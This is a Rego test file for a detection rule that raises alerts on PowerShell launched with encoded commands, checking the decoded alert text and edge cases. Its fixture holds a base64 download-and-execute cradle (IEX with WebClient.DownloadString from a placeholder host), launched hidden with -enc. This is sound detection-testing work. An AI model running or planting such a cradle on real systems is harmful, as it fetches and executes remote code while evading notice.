package posture.alerts.powershell_encoded

fx_now := "2026-11-25T22:10:00Z"

# "IEX (New-Object Net.WebClient).DownloadString('http://x')" in UTF-16LE, base64
fx_payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"

fx_inp(procs, events) := {"machines": [{"id": "/m/sql-01", "hostname": "SQL-01", "snapshot": {"collectedAt": fx_now, "processes": {"running": procs}, "events": {"windows": events}}, "history": []}], "parameters": {}, "now": fx_now}

fx_4688(cmd) := {"time": "2026-11-25T21:05:00Z", "eventId": 4688, "account": "CONTOSO\\admin", "data": {"NewProcessName": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": cmd}}

test_encoded_commands_fire_with_the_decoded_text if {
	out := alerts with input as fx_inp([], [fx_4688(concat(" ", ["powershell.exe -NoP -W Hidden -enc", fx_payload]))])
	count(out) == 1
	some a in out
	a.start == "2026-11-25T21:05:00Z"
	a.message == "CONTOSO\\admin ran PowerShell with an encoded command (event 4688): IEX (New-Object Net.WebClient).DownloadString('http://x')"
	proc := {"pid": 4120, "user": "CONTOSO\\svc", "exe": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "commandLine": concat(" ", ["powershell", "-EncodedCommand", fx_payload])}
	count(alerts) == 1 with input as fx_inp([proc], [])
}

test_plain_powershell_and_other_programs_are_quiet if {
	count(alerts) == 0 with input as fx_inp([], [fx_4688("powershell.exe -File C:\\scripts\\backup.ps1 -Environment prod")])
	other := {"pid": 1, "exe": `C:\tools\app.exe`, "commandLine": concat(" ", ["app.exe -enc", fx_payload])}
	count(alerts) == 0 with input as fx_inp([other], [])
}

test_missing_data_and_bad_base64_are_handled if {
	count(alerts) == 0 with input as fx_inp(null, null)
	count(alerts) == 0 with input as {"machines": [{"id": "/m/x"}], "parameters": {}, "now": fx_now}
	{a.message | some a in alerts} == {"CONTOSO\\admin ran PowerShell with an encoded command (event 4688): (not valid base64) SQBFAFgA==="} with input as fx_inp([], [fx_4688("powershell -e SQBFAFgA===")])
}

test_case_and_abbreviation_variants if {
	count(alerts) == 1 with input as fx_inp([], [fx_4688(concat(" ", ["POWERSHELL.EXE /EnC", fx_payload]))])
	count(alerts) == 1 with input as fx_inp([{"pid": 9, "user": "u", "exe": "/usr/bin/pwsh", "commandLine": concat(" ", ["pwsh -ec", fx_payload])}], [])
}
